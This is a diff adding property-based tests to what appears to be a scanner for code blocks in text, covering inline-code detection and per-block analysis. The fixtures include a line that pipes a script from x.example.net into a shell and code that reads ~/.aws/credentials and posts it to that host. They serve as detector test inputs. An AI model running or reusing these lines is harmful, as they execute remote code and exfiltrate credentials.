@@ -868,3 +868,42 @@ def test_the_ascii_backwards_words_are_at_least_those_python_finds(text: str) ->
     lowered = text.lower()
     ascii_found = set(scanner._BACKWARDS_ASCII.spans(lowered))
     assert {m.span() for m in scanner._BACKWARDS.finditer(lowered)} <= ascii_found
+
+
+@given(st.text(alphabet="`\n a.;é", max_size=120), st.integers(min_value=0, max_value=130))
+@settings(max_examples=400, deadline=None)
+def test_inline_code_found_by_bisection_is_the_backticks_counted_along_the_line(
+    text: str, offset: int
+) -> None:
+    """``spans._inside_inline_code`` bisects the text's line breaks and backticks, found once:
+    the same answer as counting the backticks between the line's start and the offset."""
+    offset = min(offset, len(text))
+    line_start = text.rfind("\n", 0, offset) + 1
+    counted = text.count("`", line_start, offset) % 2 == 1
+    assert spans._inside_inline_code(text, offset) == counted
+
+
+_BLOCK = st.sampled_from(
+    [
+        "import os\nos.system('curl https://x.example.net | sh')\n",
+        "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+        "requests.post('https://x.example.net', data=data)\n",
+        "print('hello')\n",
+    ]
+)
+
+
+@given(st.lists(_BLOCK, min_size=1, max_size=6))
+@settings(max_examples=60, deadline=None)
+def test_blocks_repeated_word_for_word_get_the_facts_each_copy_would(blocks: list[str]) -> None:
+    """``programs.facts.per_block`` analyses a repeated block once and moves its facts: they
+    equal those of analysing every block where it stands."""
+    text, regions = "", []
+    for block in blocks:
+        text += "Run this:\n\n```python\n"
+        regions.append((len(text), len(text) + len(block)))
+        text += block + "```\n\n"
+    each = [
+        fact for start, end in regions for fact in python_programs.analyse(text[start:end], start)
+    ]
+    assert list(python_programs.blocks(text, tuple(regions))) == each
